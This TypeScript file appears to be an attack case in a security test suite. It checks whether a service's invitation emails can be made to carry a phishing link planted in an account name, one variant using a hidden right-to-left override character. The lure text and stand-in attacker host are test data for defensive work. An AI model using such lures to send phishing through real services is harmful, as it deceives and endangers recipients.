import { onTarget, type Attack } from '../runner/attack.ts'
import { aParent, call, expectStatus } from '../target/people.ts'
import { poll } from '../target/poll.ts'
import type { Target } from '../target/start-target.ts'

const victim = 'victim@example.org'
const link = 'https://pipit.evil.example'
const lure = `URGENT: sign in at ${link}`
const names = { 'on a line of its own': `Pipit\n\n${lure}`, 'after a mark for direction': `\u202E${lure}`, plain: lure }

export const linkInAName: Attack = {
  name: 'link-in-a-name',
  aim: 'have this service mail a warning with a link of the attacker’s to any address, as an invitation',
  attempt: onTarget({}, async (target) => {
    const seen: string[] = []
    for (const [how, name] of Object.entries(names)) {
      const { token, accountId } = await aParent(target)
      const path = `/v1/accounts/${accountId}`
      const { status } = await call(target, `PATCH ${path}`, { token, body: { name } })
      if (status !== 200) seen.push(`${how}: refused with ${status}`)
      else {
        const body = { email: victim, role: 'viewer' }
        expectStatus(await call(target, `POST ${path}/guardians/invitations`, { token, body }), 201)
        seen.push(`${how}: ${(await newestMail(target)).includes(link) ? 'mailed' : 'mailed without the link'}`)
      }
    }
    return { succeeded: seen.some((each) => each.endsWith(': mailed')), evidence: seen.join('; ') }
  }),
}

const newestMail = (target: Target) =>
  poll(async () => {
    const [{ waiting } = { waiting: 1 }] = await target.sql<{ waiting: number }>(
      'select count(*)::int as waiting from graphile_worker.jobs',
    )
    const outbox = /http:\S+\/outbox\?token=\S+/.exec(target.output.text)?.[0]
    const page = waiting === 0 && outbox ? await (await fetch(outbox)).text() : ''
    return page.split('<article').find((mail) => mail.includes(`To ${victim}`))
  })
